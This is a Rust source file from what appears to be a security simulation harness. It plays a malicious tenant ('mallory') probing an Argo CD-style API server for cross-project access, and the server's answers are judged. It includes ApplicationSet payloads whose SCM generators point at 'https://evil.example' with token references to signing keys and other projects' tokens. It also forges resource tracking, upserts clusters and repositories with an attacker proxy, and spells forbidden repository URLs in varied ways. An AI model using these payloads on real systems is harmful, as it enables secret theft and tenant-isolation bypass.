//! The tenant's account of the API server: rights to everything in its own project, and what it tries with them.

use std::sync::Arc;

use http::Method;
use serde_json::{Value, json};
use tiphys_api::secret::Secret;
use tiphys_service::jwt;

use super::{FOREIGN, FROZEN, OWN, PROJECT, VAULT_VALUE, judge};
use crate::simulate::api::{ApiCall, ApiServer};
use crate::simulate::chance::Chance;
use crate::simulate::model::CONTROL_PLANE;
use crate::simulate::users::path_of;
use crate::simulate::wire::Wires;
use crate::simulate::world::{SERVER, seconds_of_begin};

/// The account.
const NAME: &str = "mallory";
/// Id of its token.
const TOKEN_ID: &str = "stolen";
/// Key that the installation signs with. Like every secret of a run it may be shown to no one.
const KEY_SUFFIX: &str = "-signing-key";
/// Namespace of another project's, in every run.
const VICTIM: &str = "team-0";
/// An object there that no Application deployed.
const VAULT: &str = "vault";
/// A plugin of that project's, and its address.
const VAULT_PLUGIN: &str = "vault-plugin";
pub(super) const VAULT_PLUGIN_URL: &str = "https://plugin.vault.example";
/// Where sets are.
const SETS: &str = "/apis/argoproj.io/v1alpha1/namespaces/argocd/applicationsets";
/// The set that the tenant makes.
const SET: &str = "hostile-set";

const JSON: &str = "application/json";
const MERGE: &str = "application/merge-patch+json";

/// The tenant as a caller of the API.
pub(super) struct Account {
    wires: Arc<Wires>,
    chance: Chance,
    token: String,
}

/// Something that the tenant tries.
enum Attempt {
    /// One call, whose answer is judged.
    Call(ApiCall),
    /// The same call about something of another project's, and about nothing, with the names of both.
    Twins { of: [ApiCall; 2], names: [String; 2] },
}

impl Account {
    /// Makes the account, and objects that others have and that look like the tenant's.
    pub(super) fn install(wires: &Arc<Wires>, chance: Chance) -> Self {
        let key = wires.observer.lock().model.canary.clone() + KEY_SUFFIX;
        let subject = format!("{NAME}:apiKey");
        let iat = seconds_of_begin();
        let claims = jwt::Claims { subject: &subject, id: TOKEN_ID, iat, exp: 0 };
        let token = jwt::signed(&claims, &Secret::new(key.clone())).expose().clone();
        let account = Self { wires: Arc::clone(wires), chance, token };
        let label = json!({"app.kubernetes.io/part-of": "argocd"});
        let policies = [
            "applications",
            "applicationsets",
            "repositories",
            "write-repositories",
            "clusters",
            "logs",
            "exec",
        ];
        let lines =
            policies.map(|resource| format!("p, {NAME}, {resource}, *, {PROJECT}/*, allow\n")).concat();
        let lines = format!("{lines}p, {NAME}, projects, get, {PROJECT}, allow\n");
        let core = format!("/api/v1/namespaces/{CONTROL_PLANE}");
        account.direct(
            Method::POST,
            &format!("{core}/configmaps"),
            &json!({"apiVersion": "v1", "kind": "ConfigMap",
                "metadata": {"name": "argocd-rbac-cm", "labels": label}, "data": {"policy.csv": lines}}),
        );
        let mut settings = json!({format!("accounts.{NAME}"): "apiKey"});
        for (name, value) in super::costs::SETTINGS {
            settings[name] = json!(value);
        }
        account.merge(&format!("{core}/configmaps/argocd-cm"), &json!({"data": settings}));
        let switches = json!({"hydrator.enabled": "true"});
        let parameters = json!({"apiVersion": "v1", "kind": "ConfigMap",
            "metadata": {"name": "argocd-cmd-params-cm", "labels": label}, "data": switches});
        // A set of the run may have made it.
        if account.direct(Method::POST, &format!("{core}/configmaps"), &parameters) != 201 {
            account.merge(&format!("{core}/configmaps/argocd-cmd-params-cm"), &json!({"data": switches}));
        }
        let tokens = json!([{"id": TOKEN_ID, "iat": iat}]).to_string();
        account.direct(
            Method::POST,
            &format!("{core}/secrets"),
            &json!({"apiVersion": "v1", "kind": "Secret",
                "metadata": {"name": "argocd-secret", "labels": label},
                "stringData": {"server.secretkey": key, format!("accounts.{NAME}.tokens"): tokens}}),
        );
        account.plant();
        account.plant_in_control_plane();
        account
    }

    /// The token that it comes with.
    pub(super) fn token(&self) -> String {
        self.token.clone()
    }

    /// Objects of another project's namespace that are marked like those of an Application of the tenant: by the label
    /// that charts set, and by a forged annotation.
    fn plant(&self) {
        let namespace = json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": VICTIM}});
        self.direct(Method::POST, "/api/v1/namespaces", &namespace);
        let canary = self.wires.observer.lock().model.canary.clone();
        let metadata = json!({"name": VAULT, "labels": {"app.kubernetes.io/instance": "hostile-0"}});
        let forged = json!({"name": format!("{VAULT}-forged"), "annotations": {
            super::TRACKING: format!("hostile-0:/ConfigMap:{VICTIM}/{VAULT}-forged")}});
        for (plural, object) in [
            (
                "configmaps",
                json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": metadata,
                "data": {"value": VAULT_VALUE}}),
            ),
            (
                "secrets",
                json!({"apiVersion": "v1", "kind": "Secret", "metadata": metadata,
                "stringData": {"value": canary}}),
            ),
            (
                "configmaps",
                json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": forged,
                "data": {"value": VAULT_VALUE}}),
            ),
        ] {
            self.direct(Method::POST, &format!("/api/v1/namespaces/{VICTIM}/{plural}"), &object);
        }
    }

    /// A cluster of the tenant's with the name of the local one, a plugin and a token of another project's, and a shared
    /// token, which may go to the provider's own address.
    fn plant_in_control_plane(&self) {
        let canary = self.wires.observer.lock().model.canary.clone();
        let core = format!("/api/v1/namespaces/{CONTROL_PLANE}");
        let secret = |name: &str, kind: &str, data: Value| {
            json!({"apiVersion": "v1", "kind": "Secret",
                "metadata": {"name": name, "labels": {"argocd.argoproj.io/secret-type": kind}},
                "stringData": data})
        };
        let cluster = json!({"name": "in-cluster", "server": FROZEN, "project": PROJECT, "config": "{}"});
        for secret in [
            secret("hostile-cluster", "cluster", cluster),
            secret("vault-token", "scm-creds", json!({"token": canary, "project": "team"})),
            secret("shared-token", "scm-creds", json!({"token": canary})),
        ] {
            self.direct(Method::POST, &format!("{core}/secrets"), &secret);
        }
        let plugin = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": VAULT_PLUGIN},
            "data": {"baseUrl": VAULT_PLUGIN_URL, "token": "$vault-token:token", "project": "team"}});
        self.direct(Method::POST, &format!("{core}/configmaps"), &plugin);
    }

    /// A set that has something sent that is not the tenant's. Some exist already, as if a server of another
    /// version had let them in.
    fn forge_set(&mut self) -> Option<String> {
        if self.chance.permille(700) {
            return None;
        }
        let set = self.some_set();
        let status = match self.direct(Method::POST, SETS, &set) {
            409 => self.direct(Method::DELETE, &format!("{SETS}/{SET}"), &Value::Null),
            status => status,
        };
        Some(format!("{SET} is {}: {status}", set["spec"]["generators"]))
    }

    fn some_set(&mut self) -> Value {
        let tokens = [
            ("argocd-secret", "server.secretkey"),
            ("frozen", "config"),
            ("vault-token", "token"),
            ("shared-token", "token"),
        ];
        let (secret, key) = self.chance.pick(&tokens).copied().unwrap_or_default();
        let token = json!({"secretName": secret, "key": key});
        let api = "https://evil.example";
        let generator = match self.chance.below(5) {
            0 => json!({"scmProvider": {"github": {"organization": "o", "api": api, "tokenRef": token}}}),
            1 => json!({"scmProvider": {"gitea": {"owner": "o", "api": api, "tokenRef": token}}}),
            2 => json!({"pullRequest": {"gitlab": {"project": "1", "api": api, "tokenRef": token}}}),
            3 => json!({"plugin": {"configMapRef": {"name": VAULT_PLUGIN}}}),
            _ => json!({"clusterDecisionResource": {"configMapRef": "argocd-cm", "name": "x"}}),
        };
        let project = if self.chance.permille(500) { json!(PROJECT) } else { Value::Null };
        json!({"apiVersion": "argoproj.io/v1alpha1", "kind": "ApplicationSet",
            "metadata": {"name": SET, "namespace": CONTROL_PLANE},
            "spec": {"project": project, "generators": [generator],
                "template": {"metadata": {"name": "hostile-of-set"}, "spec": {"project": PROJECT,
                    "source": {"repoURL": OWN, "path": "hostile-0", "targetRevision": "main"},
                    "destination": {"server": SERVER, "namespace": PROJECT}}}}})
    }

    /// Makes an Application of the tenant claim what is not its own: by its tracking method, and by a status that no
    /// controller wrote and none corrects.
    pub(super) fn forge(&mut self, app: &str) -> String {
        let listed = |kind: &str, name: &str| json!({"version": "v1", "kind": kind, "namespace": VICTIM, "name": name, "status": "Synced"});
        let skips = self.chance.permille(500);
        let method = self.chance.pick(&["label", "annotation+label", "hash", "annotation"]).copied();
        let patch = json!({
            "metadata": {"annotations": {
                "argocd.argoproj.io/skip-reconcile": if skips { json!("true") } else { Value::Null },
                "argocd.argoproj.io/tracking-method": method,
            }},
            "status": {"resources": [listed("ConfigMap", VAULT), listed("Secret", VAULT),
                json!({"version": "v1", "kind": "Namespace", "name": VICTIM, "status": "Synced"})]},
        });
        let status = self.merge(&path_of(app), &patch);
        let done = format!("{app} claims what is not its own (skips: {skips}, {method:?}): {status}");
        match self.forge_set() {
            Some(set) => format!("{done}; {set}"),
            None => done,
        }
    }

    /// Tries something; what was tried, and the status of the answer.
    pub(super) async fn attempt(&mut self, api: &ApiServer, app: &str) -> String {
        match self.choose(app) {
            Attempt::Call(call) => {
                let text = call.text();
                let Some(answer) = api.call(&call).await else { return format!("{text}: no answer") };
                judge::answer(&self.wires, &call, &answer);
                let said: String = answer.text.chars().take(300).collect();
                format!("{text}: {} {said}", answer.status)
            }
            Attempt::Twins { of: [call, other], names: [name, none] } => {
                let text = call.text();
                let (answer, missing) = (api.call(&call).await, api.call(&other).await);
                let Some((answer, missing)) = answer.zip(missing) else {
                    return format!("{text}: no answer");
                };
                judge::answer(&self.wires, &call, &answer);
                judge::twins(&self.wires, (&call, &answer), (&other, &missing), (&name, &none));
                format!("{text} and about nothing: {} {}", answer.status, missing.status)
            }
        }
    }

    fn choose(&mut self, app: &str) -> Attempt {
        match self.chance.below(100) {
            0..=29 => Attempt::Call(self.read_object(app)),
            30..=44 => Attempt::Call(self.read_application(app)),
            45..=54 => Attempt::Call(self.change_object(app)),
            55..=69 => self.compare(),
            70..=84 => Attempt::Call(self.upsert()),
            _ => Attempt::Call(self.ask_repository()),
        }
    }

    /// Group, kind, namespace and name of an object that is not the tenant's, or that is.
    fn some_object(&mut self) -> (&'static str, &'static str, &'static str, String) {
        let number = self.chance.below(6);
        match self.chance.below(10) {
            0..=2 => ("", "ConfigMap", VICTIM, VAULT.to_owned()),
            3 => ("", "ConfigMap", VICTIM, format!("{VAULT}-forged")),
            4 => ("", "Secret", VICTIM, VAULT.to_owned()),
            5 => ("", "Namespace", "", VICTIM.to_owned()),
            6 => ("", "ConfigMap", VICTIM, format!("config-{number}")),
            7 => ("apps", "Deployment", VICTIM, format!("web-{number}")),
            8 => ("argoproj.io", "Application", CONTROL_PLANE, "app-0".to_owned()),
            _ => ("", "ConfigMap", PROJECT, format!("hostile-{}-config", number % 4)),
        }
    }

    fn of_object(&mut self) -> String {
        let (group, kind, namespace, name) = self.some_object();
        Self::query((group, kind, namespace), &name)
    }

    fn query((group, kind, namespace): (&str, &str, &str), name: &str) -> String {
        let version = if group == "argoproj.io" { "v1alpha1" } else { "v1" };
        format!("namespace={namespace}&resourceName={name}&group={group}&kind={kind}&version={version}")
    }

    fn read_object(&mut self, app: &str) -> ApiCall {
        let query = self.of_object();
        let base = format!("/api/v1/applications/{app}");
        match self.chance.below(5) {
            0 | 1 => ApiCall::get(format!("{base}/resource?{query}")),
            2 => ApiCall::get(format!("{base}/resource/links?{query}")),
            3 => ApiCall::get(format!("{base}/resource/actions?{query}")),
            _ => ApiCall::get(format!("{base}/events?{}", query.replace("namespace=", "resourceNamespace="))),
        }
    }

    fn read_application(&mut self, app: &str) -> ApiCall {
        let base = format!("/api/v1/applications/{app}");
        let reads = [
            "",
            "/resource-tree",
            "/managed-resources",
            "/manifests",
            "/links",
            "/syncwindows",
            "/logs?follow=false",
        ];
        match self.chance.below(10) {
            0 => ApiCall::get("/api/v1/applications"),
            1 => ApiCall::get("/api/v1/stream/applications"),
            2 => ApiCall::get(format!("/api/v1/stream/applications/{app}/resource-tree")),
            _ => {
                let read = self.chance.pick(&reads).copied().unwrap_or_default();
                ApiCall::get(format!("{base}{read}"))
            }
        }
    }

    fn change_object(&mut self, app: &str) -> ApiCall {
        let (group, kind, namespace, name) = self.some_object();
        let query = Self::query((group, kind, namespace), &name);
        self.wires.state.lock().touched.insert(name);
        let base = format!("/api/v1/applications/{app}/resource");
        match self.chance.below(3) {
            0 => {
                let patch = json!({"data": {"value": "forged"}}).to_string();
                let kind = "patchType=application/merge-patch%2Bjson";
                ApiCall::new(Method::POST, format!("{base}?{query}&{kind}"), json!(patch))
            }
            1 => ApiCall::new(Method::DELETE, format!("{base}?{query}"), Value::Null),
            _ => ApiCall::new(Method::POST, format!("{base}/actions?{query}"), json!("restart")),
        }
    }

    /// A call about something of another project's, and about nothing of the same form.
    fn compare(&mut self) -> Attempt {
        let (name, none) = match self.chance.below(4) {
            0 => ("team", "meat"),
            1 => ("set", "tes"),
            2 => ("https%3A%2F%2Fkubernetes.default.svc", "https%3A%2F%2Fforgotten.example"),
            _ => ("app-0", "app-8"),
        };
        let form = match name {
            "team" => "/api/v1/projects/NAME",
            "set" => "/api/v1/applicationsets/NAME",
            "app-0" => *self
                .chance
                .pick(&[
                    "/api/v1/applications/NAME",
                    "/api/v1/applications/NAME/resource-tree",
                    "/api/v1/applications/NAME/manifests",
                    "/api/v1/applications/NAME/events",
                ])
                .unwrap_or(&"/api/v1/applications/NAME"),
            _ => "/api/v1/clusters/NAME",
        };
        let of = [name, none].map(|name| ApiCall::get(form.replace("NAME", name)));
        let plain = |name: &str| name.replace("%3A", ":").replace("%2F", "/");
        Attempt::Twins { of, names: [plain(name), plain(none)] }
    }

    /// Something of another project's, or of all projects', as if it were the tenant's.
    fn upsert(&mut self) -> ApiCall {
        let destination = json!({"server": SERVER, "namespace": PROJECT});
        let source = json!({"repoURL": OWN, "path": "hostile-0", "targetRevision": "main"});
        let post = |path: &str, body: Value| ApiCall::new(Method::POST, format!("/api/v1/{path}"), body);
        match self.chance.below(9) {
            // A name that is free may be taken.
            0 if self.wires.get(&path_of("app-0")).is_some() => post(
                "applications?upsert=true&validate=false",
                json!({"metadata": {"name": "app-0"},
                "spec": {"project": PROJECT, "source": source, "destination": destination}}),
            ),
            1 => post(
                "clusters?upsert=true",
                json!({"server": SERVER, "name": "in-cluster", "project": PROJECT,
                "config": {"bearerToken": "evil"}}),
            ),
            2 => post(
                "clusters?upsert=true",
                json!({"server": SERVER, "name": "in-cluster", "project": PROJECT,
                "config": {}}),
            ),
            3 => post(
                "repositories?upsert=true",
                json!({"repo": FOREIGN, "project": PROJECT, "type": "git",
                "username": "evil", "password": "evil", "proxy": "http://evil.example"}),
            ),
            4 => post(
                "repositories?upsert=true",
                json!({"repo": format!("{PROJECT}/shared"), "type": "git",
                "username": "evil", "password": "evil"}),
            ),
            5 => post("repocreds?upsert=true", json!({"url": "https://git.example", "username": "evil"})),
            6 => post(
                "projects",
                json!({"upsert": true, "project": {"metadata": {"name": "team"},
                "spec": {"sourceRepos": ["*"], "destinations": [{"server": "*", "namespace": "*"}]}}}),
            ),
            7 => {
                let set = self.some_set();
                let path = *self
                    .chance
                    .pick(&["applicationsets?upsert=true", "applicationsets/generate"])
                    .unwrap_or(&"applicationsets");
                let body = if path.ends_with("generate") { json!({"applicationSet": set}) } else { set };
                post(path, body)
            }
            _ if self.wires.get(&format!("{SETS}/set")).is_none() => post("applicationsets", self.some_set()),
            _ => post(
                "applicationsets?upsert=true",
                json!({"metadata": {"name": "set"},
                "spec": {"project": PROJECT, "generators": [{"list": {"elements": []}}],
                    "template": {"metadata": {"name": "x"}, "spec": {"project": PROJECT}}}}),
            ),
        }
    }

    /// A repository that the project forbids, in several spellings.
    fn ask_repository(&mut self) -> ApiCall {
        let spellings = [
            FOREIGN.to_owned(),
            FOREIGN.to_uppercase().replace("HTTPS", "https"),
            FOREIGN.trim_end_matches(".git").to_owned(),
            FOREIGN.replace("git.example", "x@git.example"),
            FROZEN.to_owned(),
        ];
        let url = self.chance.pick(&spellings).cloned().unwrap_or_default();
        let escaped = url.replace(':', "%3A").replace('/', "%2F");
        let base = format!("/api/v1/repositories/{escaped}");
        match self.chance.below(4) {
            0 => ApiCall::get(format!("{base}/refs?appProject={PROJECT}")),
            1 => ApiCall::get(format!("{base}/apps?revision=main&appProject={PROJECT}&appName=hostile-0")),
            2 => ApiCall::get(format!("{base}?appProject={PROJECT}")),
            _ => ApiCall::new(
                Method::POST,
                format!("{base}/appdetails"),
                json!({
                "source": {"repoURL": url, "path": "apps/0", "targetRevision": "main"},
                "appName": "hostile-0", "appProject": PROJECT}),
            ),
        }
    }

    fn direct(&self, method: Method, path: &str, body: &Value) -> u16 {
        self.wires.direct(method, path, JSON, body).0
    }

    fn merge(&self, path: &str, patch: &Value) -> u16 {
        self.wires.direct(Method::PATCH, path, MERGE, patch).0
    }
}
